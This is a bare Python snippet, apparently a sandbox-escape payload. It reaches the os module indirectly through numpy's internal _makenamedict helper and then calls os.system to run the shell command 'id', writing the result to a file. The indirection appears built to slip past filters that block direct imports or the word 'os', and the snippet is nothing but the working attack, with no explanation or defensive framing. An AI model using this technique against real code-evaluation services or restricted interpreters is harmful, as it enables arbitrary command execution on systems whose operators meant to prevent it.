my_t = {}

def my_A(x):
    my_t['k'] = x
    return my_t['k']
import numpy.lib.utils as u
d, names = my_A(u)._makenamedict('os')
[x for x in [d, *names] if 'os' in x][0]['os']['system']('id>pf')
